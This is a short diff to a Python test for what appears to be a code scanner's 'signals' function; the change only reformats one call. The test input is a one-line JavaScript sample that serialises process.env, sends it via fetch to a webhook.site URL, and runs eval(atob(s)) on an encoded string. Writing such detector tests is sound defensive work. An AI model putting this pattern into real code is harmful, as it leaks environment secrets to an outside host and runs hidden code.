@@ -82,7 +82,9 @@ def test_one_walk_per_file(monkeypatch: pytest.MonkeyPatch) -> None:
         return real(query, root)  # type: ignore[arg-type]
 
     monkeypatch.setattr(walk, "run_query", counting)
-    signals("const e = JSON.stringify(process.env); fetch('https://webhook.site/x'); eval(atob(s));")
+    signals(
+        "const e = JSON.stringify(process.env); fetch('https://webhook.site/x'); eval(atob(s));"
+    )
     assert len(calls) == 1
 
 
